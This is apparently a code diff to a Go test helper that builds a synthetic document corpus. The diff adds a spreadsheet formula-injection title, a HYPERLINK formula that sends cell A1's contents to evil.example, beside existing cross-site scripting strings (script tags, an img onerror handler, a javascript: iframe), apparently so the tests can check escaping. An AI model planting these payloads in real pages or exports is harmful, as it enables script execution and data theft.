@@ -21,6 +21,9 @@ import (
 // printed it unescaped.
 const hXSSTitle = `<script>alert("t")</script><img src=x onerror=alert(1)> & "quotes"`
 
+// hFormulaTitle is a title a spreadsheet would run as a formula.
+const hFormulaTitle = `=HYPERLINK("http://evil.example/?x="&A1,"formula")`
+
 // hWords are the words generated documents are made of.
 var hWords = strings.Fields(`digital public administration innovation transparency open government data
 citizens participation municipalities regions services interoperability procurement budget accountability
@@ -47,6 +50,9 @@ func hCorpus(n int, seed uint64) fstest.MapFS {
 			t = hXSSTitle
 			tags = `["<b>bold</b>", "a&b"]`
 			extra = "\n<script>alert('body')</script> digital <iframe src=javascript:alert(1)></iframe>\n"
+		}
+		if i%50 == 13 {
+			t = hFormulaTitle
 		}
 		var body strings.Builder
 		for p := range 3 + rng.IntN(4) {
